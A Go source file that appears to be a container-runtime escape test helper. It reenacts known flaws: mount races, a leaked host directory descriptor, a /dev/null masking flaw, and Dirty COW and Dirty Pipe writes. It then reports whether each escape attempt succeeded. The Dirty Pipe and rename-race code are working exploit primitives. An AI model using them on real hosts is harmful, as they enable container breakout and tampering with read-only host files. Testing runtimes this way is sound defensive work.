package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// exchange swaps two names until it is killed, or for the given seconds.
// Arguments: seconds, a, b.
func exchange(args []string) error {
	fmt.Println("ready")
	for end := deadline(args[0]); time.Now().Before(end); {
		for range 1000 {
			if err := unix.Renameat2(unix.AT_FDCWD, args[1], unix.AT_FDCWD, args[2], unix.RENAME_EXCHANGE); err != nil {
				return err
			}
		}
	}
	return nil
}

// mountPoints returns where something is mounted.
func mountPoints() ([]string, error) {
	raw, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return nil, err
	}
	var out []string
	for line := range strings.Lines(string(raw)) {
		out = append(out, strings.Fields(line)[4])
	}
	return out, nil
}

// visible looks for a file of the host at and below every mount. Arguments:
// the file's path on the host.
func visible(args []string) error {
	points, err := mountPoints()
	if err != nil {
		return err
	}
	for _, p := range append(points, "/") {
		for _, name := range []string{args[0], filepath.Base(args[0])} {
			if _, err := os.Lstat(filepath.Join(p, name)); err == nil {
				escaped("%s is visible below %s", name, p)
			}
		}
	}
	held("%d mounts", len(points))
	return nil
}

// naiveMount makes and mounts a target as runtimes did before CVE-2021-30465
// and CVE-2024-45310: it checks a path, and then uses it. Arguments: seconds,
// root, target, source, the host's directory that must stay empty.
func naiveMount(args []string) error {
	root, target, source, victim := args[1], filepath.Join(args[1], args[2]), args[3], args[4]
	if err := private(); err != nil {
		return err
	}
	for end := deadline(args[0]); time.Now().Before(end); {
		parent := filepath.Dir(target)
		if real, err := filepath.EvalSymlinks(parent); err != nil || !strings.HasPrefix(real, root) {
			continue // it is careful, but too early
		}
		if err := os.MkdirAll(target, 0o755); err != nil {
			continue
		}
		if err := unix.Mount(source, target, "", unix.MS_BIND, ""); err != nil {
			continue
		}
		points, err := mountPoints()
		if err != nil {
			return err
		}
		for _, p := range points {
			if strings.HasPrefix(p, victim) {
				escaped("mounted on %s", p)
				return nil
			}
		}
		_ = unix.Unmount(points[len(points)-1], unix.MNT_DETACH) // it may have moved
	}
	return nil
}

// naiveMask hides a path behind the container's own null device, as runtimes
// did before CVE-2025-31133, and says what is there then. Arguments: root, path.
func naiveMask(args []string) error {
	if err := private(); err != nil {
		return err
	}
	at := filepath.Join(args[0], args[1])
	if err := unix.Mount(args[0]+"/dev/null", at, "", unix.MS_BIND, ""); err != nil {
		return err
	}
	b, err := os.ReadFile(at)
	if len(b) > 0 {
		escaped("%s shows %s", args[1], b)
	}
	return err
}

// naiveRead reads a file below a root by its path. Arguments: root, path.
func naiveRead(args []string) error {
	b, err := os.ReadFile(filepath.Join(args[0], args[1]))
	if err == nil {
		escaped("read %s", b)
	}
	return err
}

// mounted says of paths what is there: kind, device, and whether they can be
// written to. Arguments: paths.
func mounted(args []string) error {
	for _, p := range args {
		var st unix.Stat_t
		if err := unix.Stat(p, &st); err != nil {
			fmt.Printf("%s: %v\n", p, err)
			continue
		}
		var fs unix.Statfs_t
		if err := unix.Statfs(p, &fs); err != nil {
			return err
		}
		kind := map[uint32]string{unix.S_IFCHR: "device", unix.S_IFDIR: "directory", unix.S_IFREG: "file"}[st.Mode&unix.S_IFMT]
		writable := "no"
		if fd, err := unix.Open(p, unix.O_WRONLY|unix.O_NOCTTY, 0); err == nil {
			writable = "yes"
			unix.Close(fd)
		}
		fmt.Printf("%s: %s %d:%d fs=%x writable=%s\n", p, kind, unix.Major(st.Rdev), unix.Minor(st.Rdev), fs.Type, writable)
	}
	return nil
}

// dirty tries to write to what was mounted read-only, in every way there is.
// Arguments: a file.
func dirty(args []string) error {
	for how, try := range map[string]func() error{
		"open for writing": func() error { return os.WriteFile(args[0], []byte("dirty"), 0o644) },
		"truncate":         func() error { return os.Truncate(args[0], 0) },
		"remount": func() error {
			if err := unix.Mount("", args[0], "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
				return err
			}
			return os.WriteFile(args[0], []byte("dirty"), 0o644)
		},
		"mount_setattr": func() error {
			if err := unix.MountSetattr(unix.AT_FDCWD, args[0], 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}); err != nil {
				return err
			}
			return os.WriteFile(args[0], []byte("dirty"), 0o644)
		},
		"shared memory": func() error {
			fd, err := unix.Open(args[0], unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			m, err := unix.Mmap(fd, 0, 5, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
			if err == nil {
				copy(m, "dirty")
			}
			return err
		},
		"private memory": func() error { // Dirty COW: CVE-2016-5195
			fd, err := unix.Open(args[0], unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			m, err := unix.Mmap(fd, 0, 5, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE)
			if err == nil {
				copy(m, "dirty")
			}
			b, err := os.ReadFile(args[0])
			if err == nil && !strings.HasPrefix(string(b), "dirty") {
				return unix.EROFS
			}
			return err
		},
		"times": func() error { return os.Chtimes(args[0], time.Unix(1, 0), time.Unix(1, 0)) },
		"splice": func() error { // Dirty Pipe: CVE-2022-0847
			return dirtyPipe(args[0])
		},
	} {
		if err := try(); err != nil {
			held("%s: %v", how, err)
		} else {
			escaped("%s", how)
		}
	}
	return nil
}

func dirtyPipe(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_NONBLOCK); err != nil {
		return err
	}
	page := make([]byte, 4096)
	for _, err = unix.Write(p[1], page); err == nil; {
		_, err = unix.Write(p[1], page)
	}
	for _, err = unix.Read(p[0], page); err == nil; {
		_, err = unix.Read(p[0], page)
	}
	off := int64(0)
	if _, err := unix.Splice(fd, &off, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte("irty")); err != nil {
		return err
	}
	b, err := os.ReadFile(path)
	if err == nil && !strings.Contains(string(b), "irty") {
		return unix.EROFS
	}
	return err
}

// cwd says whether the working directory is one of the container, and reads a
// file of the host from it. Arguments: the file's path on the host.
func cwd(args []string) error {
	wd, err := unix.Getwd()
	if err != nil {
		wd = err.Error()
	}
	fmt.Println("cwd", wd)
	if b, err := os.ReadFile(strings.Repeat("../", 40) + args[0]); err == nil {
		escaped("read %s", b)
	} else {
		held("%v", err)
	}
	return nil
}

// naiveCwd is what a runtime did before CVE-2024-21626: it has a directory of
// the host open when it changes to the working directory. Arguments: root, the
// file on the host.
func naiveCwd(args []string) error {
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	if err := private(); err != nil {
		return err
	}
	if err := unix.Mount("proc", args[0]+"/proc", "proc", 0, ""); err != nil {
		return err
	}
	if err := unix.Chroot(args[0]); err != nil {
		return err
	}
	if err := unix.Chdir("/proc/self/fd/" + strconv.Itoa(fd)); err != nil {
		return err
	}
	return cwd(args[1:])
}

// fds lists the open descriptors that are not the process's own business.
func fds([]string) error {
	for fd := range 1024 {
		to, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if err != nil || fd <= 2 || strings.HasPrefix(to, "anon_inode:") || strings.HasPrefix(to, "/sys/fs/cgroup") {
			continue // the Go runtime's
		}
		escaped("descriptor %d is %s", fd, to)
	}
	held("looked at all")
	return nil
}

// attempt opens files for writing and says which could be. Arguments: paths.
func attempt(args []string) error {
	for _, p := range args {
		fd, err := unix.Open(p, unix.O_WRONLY, 0)
		if err == nil {
			escaped("%s can be written to", p)
			unix.Close(fd)
		} else {
			held("%s: %v", p, err)
		}
	}
	return nil
}

// devNull replaces the null device of a directory by a link, for another
// container that is given it as /dev. Arguments: the directory, the link's target.
func devNull(args []string) error {
	for _, name := range []string{"null", "console", "ptmx"} {
		p := filepath.Join(args[0], name)
		if err := os.Remove(p); err != nil && !errors.Is(err, os.ErrNotExist) {
			return err
		}
		if err := os.Symlink(args[1], p); err != nil {
			return err
		}
	}
	return nil
}
